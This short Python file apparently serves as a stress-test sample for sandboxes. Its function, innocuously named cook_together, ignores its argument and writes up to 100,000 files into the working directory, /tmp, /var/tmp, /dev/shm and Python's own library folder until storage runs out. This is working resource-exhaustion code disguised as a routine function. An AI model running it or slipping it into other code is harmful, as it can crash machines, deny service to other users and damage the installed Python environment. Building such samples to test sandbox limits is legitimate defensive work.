"""Writes files as large and as many as it can, in every folder that can be written, until there is no more room.

ending: completed | crashed | out_of_memory | timed_out
"""

import os

BLOCK = bytes(1024 * 1024)


def fill(folder):
    for number in range(100_000):
        try:
            with open(f"{folder}/{number}", "wb") as file:
                for _ in range(64 if number < 64 else 0):
                    file.write(BLOCK)
        except OSError as error:
            if number > 64:
                return f"{folder}: {error.strerror} after {number}"
    return folder


async def cook_together(dishes):
    for folder in (".", "../pantry", "../tmp", "/dev/shm", "/tmp", "/var/tmp", os.path.dirname(os.__file__)):
        print(fill(folder))
    return []
